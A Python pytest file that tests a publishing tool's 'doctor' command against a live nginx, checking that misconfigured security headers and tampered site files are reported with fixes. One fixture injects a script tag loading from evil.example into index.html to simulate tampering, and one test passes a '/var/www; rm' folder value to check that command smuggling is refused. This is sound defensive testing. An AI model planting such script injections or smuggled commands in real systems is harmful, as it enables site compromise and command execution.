"""pluttra doctor, on a real nginx: a host that is well, and one for every way not to be."""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from click.testing import CliRunner

from pluttra_publish.cli import main
from pluttra_publish.doctor import Examined, Unwell, examine
from pluttra_publish.errors import Findings
from pluttra_publish.hosts import open_host
from pluttra_publish.serve import serving
from pluttra_publish.settings import FILE
from tests.servers.web import Web, nginx
from tests.whole.preschool import Preschool, clock, grain

Edit = Callable[[str], str]


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Preschool:
    school = Preschool(tmp_path_factory.mktemp("school") / "backen").write_posts()
    school.post("Solrosen/2026-11-18 Lera", "Lera.\n", lera_jpg=grain(3))
    school.publish()
    for folder in (school.root, *school.root.parents):
        if folder != Path("/tmp") and folder.is_relative_to("/tmp"):  # noqa: S108 # for nginx's account
            folder.chmod(0o755)
    return school


@pytest.fixture
def school(published: Preschool) -> Iterator[Preschool]:
    """The published school, whose host is put right afterwards."""
    before = published.files()
    kept = (published.state / "on-host.sqlite").read_bytes()
    yield published
    for path in published.files().keys() - before.keys():
        (published.public / path).unlink()
    for path, content in before.items():
        (published.public / path).write_bytes(content)
    (published.state / "on-host.sqlite").write_bytes(kept)


@contextmanager
def served(school: Preschool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, edit: Edit = str) -> Iterator[Web]:
    with nginx(school.public, tmp_path / "nginx", edit) as web:
        monkeypatch.setenv("SSL_CERT_FILE", str(web.certificate))
        yield web


def look(school: Preschool, web: Web) -> Findings:
    """Return all findings, errors and what could be better."""
    with clock(school.now):
        try:
            return examine(school.settings, url=web.url, http_port=web.http).findings
        except Unwell as unwell:
            return unwell.findings


def test_a_host_with_our_rules_is_well(school: Preschool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with served(school, tmp_path, monkeypatch) as web, clock(school.now):
        assert [str(finding) for finding in look(school, web)] == []
        examined = examine(school.settings, url=web.url, http_port=web.http)
    assert isinstance(examined, Examined)
    assert examined.files == len(school.files())


def changed(old: str, new: str) -> Edit:
    def edit(rules: str) -> str:
        assert old in rules
        return rules.replace(old, new)

    return edit


def dropped(header: str) -> Edit:
    def edit(rules: str) -> str:
        left = [line for line in rules.splitlines() if f"add_header {header} " not in line]
        assert len(left) < len(rules.splitlines())
        return "\n".join(left)

    return edit


ONLY_OURS = "location / {\n        return 404;"
ILLNESSES: list[tuple[str, Edit, str, bool]] = [
    ("listing", changed(ONLY_OURS, "location / {\n        autoindex on;"), "kan lista", True),
    ("no HSTS", dropped("Strict-Transport-Security"), "Strict-Transport-Security", True),
    ("short HSTS", changed("max-age=63072000", "max-age=300"), "Strict-Transport-Security", True),
    ("no referrer policy", dropped("Referrer-Policy"), "Referrer-Policy", False),
    ("no nosniff", dropped("X-Content-Type-Options"), "X-Content-Type-Options", False),
    ("no policy", dropped("Content-Security-Policy"), "ingen Content-Security-Policy", False),
    ("http shows the site", changed("return 301 https://localhost$request_uri;", "return 200 shell;"), "Utan https", True),
    ("code of the wrong type", changed("text/javascript js;", "text/plain js txt2;"), "i stället för text/javascript", True),
    ("the root is kept", changed('default "no-cache"', 'default "public, max-age=3600"'), "frågas efter varje gång", True),
    ("nothing is kept", changed("max-age=31536000, immutable", "max-age=0"), "trög", False),
    ("no ranges", changed("    etag on;", "    etag on;\n    max_ranges 0;"), "filmer inte går att spola", True),
    ("sealed files are packed", changed("gzip_types ", "gzip_types application/octet-stream "), "packar om", True),
    ("no validators", changed("etag on;", "etag off; if_modified_since off;"), "304", False),
    ("an error page of its own", changed(ONLY_OURS, "location / {\n        return 200 hello;"), "svarar för en mapp", True),
    ("a cookie", changed("    etag on;", "    etag on;\n    add_header Set-Cookie a=b always;"), "set-cookie", False),
    ("anybody's pages", changed("    etag on;", '    etag on;\n    add_header Access-Control-Allow-Origin "*" always;'), "Vilken webbplats", False),
    ("another shell", changed("try_files /index.html =404;", "return 200 hello;"), "Content-Security-Policy", True),
]  # fmt: skip


@pytest.mark.parametrize(("edit", "told", "grave"), [one[1:] for one in ILLNESSES], ids=[one[0] for one in ILLNESSES])
def test_what_is_wrong_with_the_server_is_told_with_its_mend(
    school: Preschool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, edit: Edit, told: str, grave: bool
) -> None:
    with served(school, tmp_path, monkeypatch, edit) as web:
        findings = look(school, web)
    found = [finding for finding in findings if told in f"{finding.place} {finding.message}"]
    assert found, [str(finding) for finding in findings]
    assert all(finding.mend for finding in findings)
    assert {finding.severity for finding in found} == {"error" if grave else "warning"}


def some(school: Preschool, start: str) -> str:
    return next(path for path in sorted(school.files()) if path.startswith(start))


def spoil_shell(school: Preschool) -> None:
    shell = school.public / "index.html"
    shell.write_bytes(shell.read_bytes().replace(b"</head>", b"<script src=//evil.example/x.js></script></head>"))


def spoil_code(school: Preschool) -> None:
    code = school.public / some(school, "r/")
    code.write_bytes(code.read_bytes()[:-1] + b"\t")


def lose_object(school: Preschool) -> None:
    (school.public / some(school, "o/")).unlink()


def cut_object(school: Preschool) -> None:
    path = school.public / some(school, "o/")
    path.write_bytes(path.read_bytes()[:-1])


def old_root(school: Preschool) -> None:
    (school.public / "root").write_bytes(os.urandom((school.public / "root").stat().st_size))


def put(path: str) -> Callable[[Preschool], None]:
    def do(school: Preschool) -> None:
        (school.public / path).parent.mkdir(parents=True, exist_ok=True)
        (school.public / path).write_bytes(b"x")

    return do


SPOILT: list[tuple[Callable[[Preschool], None], str, bool]] = [
    (spoil_shell, "index.html: Filen är inte den som publicerades", True),
    (spoil_code, ".js: Filen är inte den som publicerades", True),
    (lose_object, "saknas", True),
    (cut_object, "fel längd", True),
    (old_root, "Roten är inte den som publicerades sist", True),
    (put(f"o/ab/{'ab' * 16}"), "ligger hos värden utan att höra till webbplatsen", True),
    (put("register/barn.csv"), "visa något om barn eller nycklar", True),
    (put(f"o/ab/.{'ab' * 8}.tmp"), "avbruten publicering", False),
    (put("blogg/index.php"), "Allt på samma adress", False),
]


@pytest.mark.parametrize(("spoil", "told", "grave"), SPOILT)
def test_what_is_wrong_with_what_lies_there_is_told_with_its_mend(
    school: Preschool,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    spoil: Callable[[Preschool], None],
    told: str,
    grave: bool,
) -> None:
    spoil(school)
    with served(school, tmp_path, monkeypatch) as web:
        findings = look(school, web)
    found = [finding for finding in findings if told in str(finding)]
    assert found, [str(finding) for finding in findings]
    assert {finding.severity for finding in found} == {"error" if grave else "warning"}
    assert all(finding.mend for finding in findings)


def test_the_settings_shown_to_everybody_is_the_gravest(
    school: Preschool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (school.public / FILE).write_text("name = 1\n", encoding="utf-8")
    edit = changed(ONLY_OURS, "location / {\n        try_files $uri =404;")
    with served(school, tmp_path, monkeypatch, edit) as web:
        told = [str(finding) for finding in look(school, web).errors]
    assert [line for line in told if "aldrig skulle ha lagts där" in line and FILE in line]


def test_the_drop_box_is_examined_with_the_host(
    school: Preschool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = school.root / FILE
    before = file.read_bytes()
    file.write_bytes(before + b'[drop]\nurl = "/drop"\nfolder = "brevlada"\n')
    try:
        with served(school, tmp_path, monkeypatch) as web:
            (found,) = look(school, web).errors
    finally:
        file.write_bytes(before)
    assert "Ingen brevlåda svarar" in found.message


def test_a_certificate_that_nobody_vouches_for_is_told(
    school: Preschool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with served(school, tmp_path, monkeypatch) as web:
        monkeypatch.delenv("SSL_CERT_FILE")
        (found,) = look(school, web).errors
    assert "Certifikatet duger inte" in found.message


def test_a_host_that_does_not_answer_is_told(school: Preschool) -> None:
    with pytest.raises(Unwell) as caught, clock(school.now):
        examine(school.settings, url="https://localhost:9")
    assert "svarar inte" in caught.value.findings.errors[0].message


def test_a_site_that_has_not_been_published_for_long_is_told(
    school: Preschool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from datetime import UTC, datetime, timedelta

    with served(school, tmp_path, monkeypatch) as web, clock(datetime.now(UTC) + timedelta(days=20)):
        findings = examine(school.settings, url=web.url, http_port=web.http).findings
    (found,) = findings.warnings
    assert "Inget har publicerats sedan" in found.message


def test_on_a_computer_that_never_published_what_anybody_sees_is_examined(
    school: Preschool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (school.state / "on-host.sqlite").unlink()
    with served(school, tmp_path, monkeypatch, dropped("Strict-Transport-Security")) as web:
        told = [finding.message for finding in look(school, web).errors]
    assert len(told) == 2
    assert "vet inte vad som ligger på värden" in " ".join(told)


def test_a_dumb_host_is_told_what_it_lacks_and_that_it_is_not_https(school: Preschool) -> None:
    """Nothing of it hinders a reader on this computer."""
    with serving(school.public, bare=True) as url, clock(school.now):
        findings = examine(school.settings, url=url).findings
    told = " ".join(str(finding) for finding in findings.warnings)
    assert "Referrer-Policy" in told
    assert "Content-Security-Policy" in told


def test_the_command_answers_in_words_and_in_json_and_says_8(
    school: Preschool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    spoil_shell(school)
    with served(school, tmp_path, monkeypatch) as web, clock(school.now):
        said = CliRunner().invoke(main, ["doctor", web.url, "--site", str(school.root)])
        as_json = CliRunner().invoke(main, ["doctor", web.url, "--site", str(school.root), "--json"])
    assert said.exit_code == as_json.exit_code == 8
    assert "index.html" in said.stderr
    assert "→" in said.stderr
    answer = json.loads(as_json.stdout)
    assert answer["exit_code"] == 8
    assert {row["code"] for row in answer["errors"]} == {8}
    assert all(row["mend"] for row in answer["errors"])


def test_the_command_says_that_a_host_is_well(
    school: Preschool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with served(school, tmp_path, monkeypatch) as web, clock(school.now):
        said = CliRunner().invoke(main, ["doctor", web.url, "--site", str(school.root)])
        as_json = CliRunner().invoke(main, ["doctor", web.url, "--site", str(school.root), "--json"])
    assert (said.exit_code, as_json.exit_code) == (0, 0)
    assert "mår bra" in said.stdout
    assert json.loads(as_json.stdout)["files"] == len(school.files())


@pytest.mark.parametrize("kind", ["nginx", "apache", "caddy", "s3-policy", "s3-cors", "s3-website", "s3-lifecycle"])
def test_the_rules_are_written_for_the_sites_own_name(school: Preschool, kind: str) -> None:
    said = CliRunner().invoke(main, ["headers", kind, "--root", "/var/www/backen", "--site", str(school.root)])
    assert said.exit_code == 0, said.output
    if kind in {"nginx", "apache", "caddy", "s3-cors"}:
        assert "dagar.example.se" in said.stdout
    if kind in {"nginx", "caddy"}:
        assert "root * /var/www/backen" in said.stdout or "root /var/www/backen;" in said.stdout
    if kind.startswith("s3"):
        assert json.loads(said.stdout)


@pytest.mark.parametrize("folder", ["backen", "/var/www; rm", "/var/{www}", '/var/"www'])
def test_a_folder_that_would_be_read_as_something_else_is_refused(school: Preschool, folder: str) -> None:
    said = CliRunner().invoke(main, ["headers", "nginx", "--root", folder, "--site", str(school.root)])
    assert said.exit_code == 2


def test_what_lies_on_a_host_is_the_inventory_and_nothing_else(school: Preschool) -> None:
    with open_host(school.settings.host, school.state) as host:
        assert list(host.strangers()) == []
